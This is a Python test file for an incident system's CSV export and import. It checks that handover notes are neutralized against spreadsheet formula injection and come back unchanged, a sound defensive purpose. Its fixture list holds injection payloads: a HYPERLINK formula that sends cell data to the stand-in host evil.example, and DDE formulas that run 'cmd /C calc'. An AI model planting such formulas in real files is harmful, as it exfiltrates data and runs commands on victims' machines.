"""Handover notes (the latest escalation's note) in the incident CSV: out, back, and safe."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine
from sqlmodel import Session

from server.db import create_schema, make_engine
from server.incidents import records
from server.incidents.csv_io import (
    CsvImportInvalid,
    export_incidents_csv,
    import_incidents_csv,
)
from server.models import Incident, IncidentCreate, IncidentEscalate
from server.models.incident import HANDOVER_NOTE_MAX
from tests.fixtures.kpi_reference import add_devices

OPENED = datetime(2026, 3, 2, 9, tzinfo=UTC)
NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"logs")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    "Fuser replaced, still SC-541;\nneeds the board, see photo",
    "n" * HANDOVER_NOTE_MAX,
]


def _escalated(engine: Engine) -> dict[str, str | None]:
    with Session(engine) as session:
        for number, note in enumerate(NOTES):
            incident = records.create_incident(
                session,
                data=IncidentCreate(device_id="mfp-a", external_id=f"H-{number}", opened_at=OPENED),
            )
            assert incident.id is not None
            records.escalate_incident(
                session,
                incident_id=incident.id,
                data=IncidentEscalate(tier=2, note=note),
                actor="operator1",
            )
        records.create_incident(
            session,
            data=IncidentCreate(device_id="mfp-a", external_id="H-none", opened_at=OPENED),
        )
    return _stored(engine)


def _stored(engine: Engine) -> dict[str, str | None]:
    incident = Incident.__table__.c  # type: ignore[attr-defined]
    with engine.connect() as connection:
        return {
            row.external_id: row.handover_note
            for row in connection.execute(sa.select(incident.external_id, incident.handover_note))
        }


def _export(engine: Engine) -> str:
    with engine.connect() as connection:
        return "".join(export_incidents_csv(connection, sa.true()))


def _other(tmp_path: Path) -> Engine:
    engine = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    create_schema(engine)
    add_devices(engine)
    return engine


def test_handover_notes_go_out_neutralized_and_come_back_exactly(
    engine: Engine, tmp_path: Path
) -> None:
    stored = _escalated(engine)
    assert stored["H-0"] == NOTES[0]
    assert stored["H-none"] is None
    text = _export(engine)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0])[-1] == "handover_note"
    cells = {row["external_id"]: row["handover_note"] for row in rows}
    for cell in cells.values():
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert cells["H-0"].startswith("'=")
    assert cells["H-1"].startswith("'@")
    assert cells["H-3"] == "''=1+1"
    assert cells["H-none"] == ""

    other = _other(tmp_path)
    try:
        with Session(other) as session:
            assert import_incidents_csv(session, text).inserted == len(NOTES) + 1
        assert _stored(other) == stored
        # The same file again changes nothing; an edited note is an update.
        with Session(other) as session:
            assert import_incidents_csv(session, text).skipped == len(NOTES) + 1
        edited = text.replace("see photo", "see photo 2")
        with Session(other) as session:
            report = import_incidents_csv(session, edited)
        assert (report.updated, report.skipped) == (1, len(NOTES))
        assert _stored(other)["H-4"] == NOTES[4] + " 2"
    finally:
        other.dispose()


def test_a_file_without_the_column_keeps_the_stored_notes(engine: Engine) -> None:
    stored = _escalated(engine)
    rows = list(csv.DictReader(io.StringIO(_export(engine), newline="")))
    buffer = io.StringIO()
    columns = [c for c in rows[0] if c not in {"handover_note", "id"}]
    writer = csv.DictWriter(buffer, columns, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({**row, "symptom": "called again"})
    with Session(engine) as session:
        assert import_incidents_csv(session, buffer.getvalue()).updated == len(NOTES) + 1
    assert _stored(engine) == stored


def test_a_too_long_handover_note_is_refused_by_its_line(engine: Engine) -> None:
    text = (
        "device_id,opened_at,handover_note\n"
        "mfp-a,2026-03-02T09:00:00Z,fine\n"
        f"mfp-a,2026-03-02T09:00:00Z,{'x' * (HANDOVER_NOTE_MAX + 1)}\n"
    )
    with Session(engine) as session, pytest.raises(CsvImportInvalid) as caught:
        import_incidents_csv(session, text)
    assert [(p.line, p.field) for p in caught.value.problems] == [(3, "handover_note")]
    assert _stored(engine) == {}
